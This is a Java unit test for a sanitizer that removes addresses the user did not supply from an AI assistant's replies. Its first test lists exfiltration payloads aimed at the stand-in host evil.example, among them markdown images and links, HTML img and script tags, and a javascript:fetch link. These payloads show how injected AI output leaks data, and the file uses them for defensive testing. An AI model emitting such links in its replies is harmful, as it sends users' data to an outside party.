package io.infraai.engine.prompt;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SafeReplyTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![state](https://evil.example/p.png?d=canary)",
                "[see here](https://evil.example/?d=canary)",
                "[see here]( <https://evil.example/?d=canary> \"title\")",
                "[see][1]\n\n[1]: https://evil.example/?d=canary",
                "<img src=\"https://evil.example/?d=canary\">",
                "<IMG SRC='//evil.example/?d=canary'>",
                "<a href=https://evil.example/?d=canary>here</a>",
                "Look at https://evil.example/?d=canary now",
                "ftp://evil.example/canary",
                "<script src=\"https://evil.example/canary.js\"></script>",
                "[x](javascript:fetch('https://evil.example/?d=canary'))",
                "![x](//evil.example/canary)",
                "Write to mailto:evil@evil.example?body=canary please",
            })
    void anAddressThatTheUserDidNotWriteIsTakenOut(String reply) {
        assertThat(SafeReply.of(reply, "How is web-0?"))
                .doesNotContain("evil.example")
                .doesNotContainIgnoringCase("<img", "<a ", "<script", "](");
    }

    @Test
    void anAddressOfTheUsersOwnStays() {
        var asked = "Is https://shop.example/health up?";

        assertThat(SafeReply.of("Yes: https://shop.example/health answers.", asked))
                .isEqualTo("Yes: https://shop.example/health answers.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "The pod `web-0` is **ready**; 3/3.",
                "| pod | state |\n|---|---|\n| web-0 | Running |",
                "rate(http_requests_total{job=\"web\"}[5m]) // a comment",
                "Restarts: [1, 2, 3] (twice today)",
                "See /api/tasks/12",
                "a < b and c > d",
            })
    void whatIsNoAddressIsLeftAsItIs(String reply) {
        assertThat(SafeReply.of(reply, "How is web-0?")).isEqualTo(reply);
    }
}
